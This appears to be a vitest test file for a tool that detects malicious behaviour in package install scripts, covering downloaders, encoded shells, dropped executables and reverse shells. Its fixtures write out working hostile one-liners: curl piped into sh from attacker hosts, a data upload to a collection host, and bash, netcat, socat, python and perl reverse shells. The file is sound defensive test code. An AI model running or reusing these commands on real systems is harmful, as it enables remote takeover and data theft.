import { describe, expect, it } from 'vitest';
import { BehaviorBuilder, HOME, PKG_DIR } from '../__fixtures__/builder.js';
import { fired, run } from '../__fixtures__/run.js';
import { esbuildPostinstall, nodeGypBuild } from '../__fixtures__/scenarios.js';

/** One lifecycle script whose `sh -c` runs `script`, plus the given child command lines. */
function scripted(script: string, ...children: string[][]): BehaviorBuilder {
  const b = new BehaviorBuilder();
  const sh = b.lifecycle(script);
  for (const argv of children) b.child(sh, argv);
  return b;
}

describe('downloader-execution', () => {
  it('fires high for curl piped into a shell', () => {
    const b = scripted('curl -fsSL http://payload.attacker.example/x.sh | sh', ['curl', '-fsSL', 'http://payload.attacker.example/x.sh'], ['sh']);
    const [f] = fired(run(b), 'downloader-execution');
    expect(f?.severity).toBe('high');
    expect(f?.explanation).toMatch(/pipes it straight into a shell/);
    expect(f?.evidence).toHaveLength(2);
  });

  it('fires high for wget -O- into python, and for raw network tools', () => {
    expect(fired(run(scripted('wget -qO- http://x.example/a.py | python3')), 'downloader-execution')[0]?.severity).toBe('high');
    expect(fired(run(scripted('true', ['nc', '198.51.100.9', '4444'])), 'downloader-execution')[0]?.severity).toBe('high');
  });

  it('fires high for curl uploading data', () => {
    const b = scripted('true', ['curl', '-d', '@/tmp/loot', 'https://collect.attacker.example/']);
    expect(fired(run(b), 'downloader-execution')[0]?.severity).toBe('high');
  });

  it('fires medium for a plain download from an unknown host', () => {
    const b = scripted('true', ['wget', '-O', '/tmp/p', 'http://203.0.113.7/p']);
    expect(fired(run(b), 'downloader-execution')[0]?.severity).toBe('medium');
  });

  it('fires for python and node one-liners that fetch from the network', () => {
    const py = scripted('true', ['python3', '-c', 'import urllib.request;urllib.request.urlopen("http://x.example/")']);
    expect(fired(run(py), 'downloader-execution')[0]?.severity).toBe('medium');
    const node = scripted('true', ['node', '-e', 'require("https").get("https://x.example/p",r=>r.pipe(process.stdout))']);
    expect(fired(run(node), 'downloader-execution')[0]?.severity).toBe('medium');
  });

  it('rates curl from the GitHub release host low', () => {
    const b = scripted('true', ['curl', '-L', '-o', 'bin.tgz', 'https://github.com/demo/demo-pkg/releases/download/v1.0.0/bin-linux-x64.tgz']);
    const [f] = fired(run(b), 'downloader-execution');
    expect(f?.severity).toBe('low');
    expect(run(b).verdict).toBe('benign');
  });

  it('rates curl of an archive from a host the package declares low, and of a script from it medium', () => {
    const declared = { declaredHosts: ['get.demo-project.example'] };
    const archive = scripted('true', ['curl', '-fsSLo', 'bin.tgz', 'https://get.demo-project.example/v1.0.0/demo-linux-x64.tar.gz?sig=1']);
    expect(fired(run(archive, declared), 'downloader-execution')[0]?.severity).toBe('low');
    expect(fired(run(archive), 'downloader-execution')[0]?.severity).toBe('medium');
    const script = scripted('true', ['curl', '-fsSLo', 'x.js', 'https://get.demo-project.example/x.js']);
    expect(fired(run(script, declared), 'downloader-execution')[0]?.severity).toBe('medium');
  });

  it('ignores the package manager fetching, and scripts that merely mention curl', () => {
    const b = new BehaviorBuilder();
    b.process(['curl', 'https://registry.npmjs.org/x'], { housekeeping: true });
    b.child(b.lifecycle('echo "install curl to use the CLI"'), ['echo', 'install curl to use the CLI']);
    b.lifecycle('node -e "console.log(require(\'./package.json\').version)"');
    b.child(b.lifecycle('python3 -c "import sys; print(sys.executable)"'), ['python3', '-c', 'import sys; print(sys.executable)']);
    expect(fired(run(b), 'downloader-execution')).toEqual([]);
  });
});

describe('shell-execution', () => {
  it('fires for base64 -d piped into a shell', () => {
    const b = scripted('echo Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g= | base64 -d | sh');
    const [f] = fired(run(b), 'shell-execution');
    expect(f?.severity).toBe('high');
    expect(f?.explanation).toMatch(/decodes hidden content/);
  });

  it('fires for eval of command substitution, interactive shells and bash /dev/tcp', () => {
    expect(fired(run(scripted('eval "$(echo ZWNobyBoaQ== | base64 --decode)"')), 'shell-execution')).toHaveLength(1);
    expect(fired(run(scripted('true', ['bash', '-i'])), 'shell-execution')).toHaveLength(1);
    expect(fired(run(scripted('cat /etc/hostname > /dev/tcp/198.51.100.9/80')), 'shell-execution')).toHaveLength(1);
  });

  it('fires for python -c exec(b64decode(...)) and node -e child_process', () => {
    const py = scripted('true', ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))']);
    expect(fired(run(py), 'shell-execution')).toHaveLength(1);
    const node = scripted('true', ['node', '-e', 'require("child_process").execSync("id")']);
    expect(fired(run(node), 'shell-execution')).toHaveLength(1);
  });

  it("ignores pip's own setup.py wrapper (python -c exec(compile(...)) of <pip-setuptools-caller>)", () => {
    const b = new BehaviorBuilder();
    const shim = "\nexec(compile('''\n# This is <pip-setuptools-caller> -- a caller that pip uses to run setup.py\n#\n''' % ('/tmp/pip-req-build-x/setup.py',), \"<pip-setuptools-caller>\", \"exec\"))";
    b.process(['/usr/bin/python3', '-u', '-c', shim, 'bdist_wheel', '-d', '/tmp/pip-wheel-abc'], { cwd: '/tmp/pip-req-build-x' });
    expect(fired(run(b, { ecosystem: 'pypi', name: 'evilpkg' }), 'shell-execution')).toEqual([]);
    // What the wrapper's process does is still evidence, shown by what it runs.
    b.read(b.behavior.processes[0]!.pid, '/home/vb-u7x2/.ssh/id_rsa');
    const [read] = fired(run(b, { ecosystem: 'pypi', name: 'evilpkg' }), 'credential-store-read');
    expect(read?.evidence[0]?.summary).toBe('/usr/bin/python3 -u setup.py (via pip) bdist_wheel -d /tmp/pip-wheel-abc read ~/.ssh/id_rsa: SSH keys and config');
  });

  it('ignores ordinary lifecycle shells, make recipes and harmless one-liners', () => {
    const b = nodeGypBuild();
    const sh = b.lifecycle('node-gyp-build || node-gyp rebuild');
    b.child(sh, ['sh', '-c', 'tar xzf prebuilt.tgz -C build && echo done']);
    b.child(sh, ['node', '-e', "process.exit(require('fs').existsSync('build') ? 0 : 1)"]);
    b.child(sh, ['node', 'install.js', '-i']);
    b.child(sh, ['python3', '-c', 'import numpy; print(numpy.get_include())']);
    expect(fired(run(b), 'shell-execution')).toEqual([]);
  });
});

describe('reverse-shell', () => {
  const shapes: Array<[string, string[]]> = [
    ['bash /dev/tcp', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']],
    ['nc -e', ['nc', '-e', '/bin/sh', '203.0.113.7', '4444']],
    ['ncat --exec', ['ncat', '--exec', '/bin/bash', '203.0.113.7', '4444']],
    ['socat', ['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/sh']],
    ['mkfifo', ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f']],
    ['python pty', ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")']],
    ['perl', ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");']],
  ];
  for (const [name, argv] of shapes) {
    it(`fires critical for ${name}`, () => {
      const result = run(scripted('node x.js', argv));
      expect(fired(result, 'reverse-shell')[0]?.severity).toBe('critical');
      expect(fired(result, 'shell-execution')).toEqual([]);
      expect(result.verdict).toBe('malicious');
    });
  }

  it('fires critical for a shell exec\'d with a network socket on its stdio (trace flag)', () => {
    const b = new BehaviorBuilder();
    b.child(b.lifecycle('node x.js'), ['/bin/sh'], { stdioSocket: true });
    const [f] = fired(run(b), 'reverse-shell');
    expect(f?.evidence[0]?.summary).toMatch(/network socket as its stdin/);
  });

  it('ignores netcat without -e, a non-shell on a socket, and socat without exec', () => {
    const b = new BehaviorBuilder();
    const sh = b.lifecycle('true');
    b.child(sh, ['nc', '-z', 'localhost', '5432']);
    b.child(sh, ['cat'], { stdioSocket: true });
    b.child(sh, ['socat', 'TCP-LISTEN:8080', 'TCP:localhost:80']);
    b.child(sh, ['bash', '-c', 'echo $((1+1)) > /dev/null']);
    expect(fired(run(b), 'reverse-shell')).toEqual([]);
  });
});

describe('dropped-executable-run', () => {
  it('fires when package code writes a file in /tmp and then runs it', () => {
    const b = new BehaviorBuilder();
    const node = b.child(b.lifecycle('node x.js'), ['node', 'x.js']);
    const w = b.write(node, '/tmp/.x/payload');
    b.file(node, 'chmod', '/tmp/.x/payload', { mode: '755' });
    const run1 = b.child(node, ['/tmp/.x/payload'], { exe: '/tmp/.x/payload' });
    const [f] = fired(run(b), 'dropped-executable-run');
    expect(f?.severity).toBe('high');
    expect(f?.evidence.map((e) => [e.kind, e.index])).toEqual([['file', w], ['process', b.behavior.processes.findIndex((p) => p.pid === run1)]]);
  });

  it('fires for a dropped script run through an interpreter, and for memfd execution', () => {
    const b = new BehaviorBuilder();
    const node = b.lifecycle('node x.js');
    b.write(node, `${HOME}/.local/share/.u.sh`);
    b.child(node, ['sh', `${HOME}/.local/share/.u.sh`]);
    b.child(node, ['[kworker]'], { exe: '/memfd:x (deleted)' });
    const [f] = fired(run(b), 'dropped-executable-run');
    expect(f?.evidence.map((e) => e.summary).join('\n')).toMatch(/from memory/);
    expect(f?.evidence.map((e) => e.summary).join('\n')).toMatch(/\.u\.sh/);
  });

  it('ignores binaries written inside the package, compiler outputs, and files written after the run', () => {
    const b = esbuildPostinstall();
    const node = b.lifecycle('node x.js');
    b.child(node, ['/tmp/helper'], { exe: '/tmp/helper', startMs: 0 });
    b.write(node, '/tmp/helper');
    const gcc = b.child(node, ['gcc', '-o', '/tmp/conftest', 'conftest.c'], { exe: '/usr/bin/gcc' });
    b.write(gcc, '/tmp/conftest');
    b.child(node, ['/tmp/conftest'], { exe: '/tmp/conftest' });
    b.write(node, `${PKG_DIR}/prebuilds/tool`);
    b.child(node, [`${PKG_DIR}/prebuilds/tool`, '--version'], { exe: `${PKG_DIR}/prebuilds/tool` });
    const npm = b.npm();
    b.write(npm, '/tmp/npm-xyz/script.sh');
    b.child(npm, ['sh', '/tmp/npm-xyz/script.sh'], { housekeeping: true });
    expect(fired(run(b), 'dropped-executable-run')).toEqual([]);
  });
});

describe('executable-made-outside-package', () => {
  it('fires medium for chmod +x on a file in /tmp or the home directory', () => {
    const b = new BehaviorBuilder();
    const node = b.lifecycle('node x.js');
    b.file(node, 'chmod', '/tmp/.cache-x', { mode: '755' });
    b.child(node, ['chmod', '+x', `${HOME}/.local/bin/update`]);
    const [f] = fired(run(b), 'executable-made-outside-package');
    expect(f?.severity).toBe('medium');
    expect(f?.evidence).toHaveLength(2);
  });

  it("ignores directories (mkdir'ed or metadata dirs) and, for PyPI, pip's build tree in /tmp", () => {
    const b = new BehaviorBuilder();
    const setup = b.process(['/usr/bin/python3', 'setup.py', 'bdist_wheel'], { cwd: '/tmp/pip-req-build-0u7m' });
    b.file(setup, 'mkdir', '/tmp/build-out/scripts');
    b.file(setup, 'chmod', '/tmp/build-out/scripts', { mode: '0755' });
    b.file(setup, 'chmod', '/tmp/staging/demo-1.0.0.dist-info', { mode: '0755' });
    b.file(setup, 'chmod', '/tmp/pip-req-build-0u7m/build/scripts-3.11/demo-cli', { mode: '0755' });
    expect(fired(run(b, { ecosystem: 'pypi', name: 'demo-pkg' }), 'executable-made-outside-package')).toEqual([]);
    // The same chmod in an npm analysis is outside the package.
    expect(fired(run(b), 'executable-made-outside-package')[0]?.evidence).toHaveLength(1);
  });

  it('ignores chmod inside the package, mode changes without x, housekeeping and linker output', () => {
    const b = nodeGypBuild();
    const node = b.lifecycle('node x.js');
    b.file(node, 'chmod', `${PKG_DIR}/bin/tool`, { mode: '755' });
    b.child(node, ['chmod', '+x', 'bin/tool']);
    b.file(node, 'chmod', '/tmp/data.json', { mode: '644' });
    b.child(node, ['chmod', '600', '/tmp/secret']);
    b.file(b.npm(), 'chmod', `${HOME}/project/node_modules/.bin/tool`, { mode: '755' });
    expect(fired(run(b), 'executable-made-outside-package')).toEqual([]);
  });
});

describe('shell-execution at the next login', () => {
  it("does not count the phase's own login shell as an interactive shell, but does one it starts", () => {
    const b = new BehaviorBuilder().inPhase('next-login');
    const login = b.process(['/bin/bash', '+o', 'history', '-l', '-i', '-c', 'true'], { trigger: 'at the next login: login shell: ~/.bashrc (changed during install)' });
    b.child(login, ['bash', '-i']);
    const found = fired(run(b), 'shell-execution');
    expect(found).toHaveLength(1);
    expect(found[0]?.evidence.map((e) => e.summary).join('\n')).not.toContain('+o history');
    expect(fired(run(b), 'anti-forensics')).toHaveLength(0);
  });
});
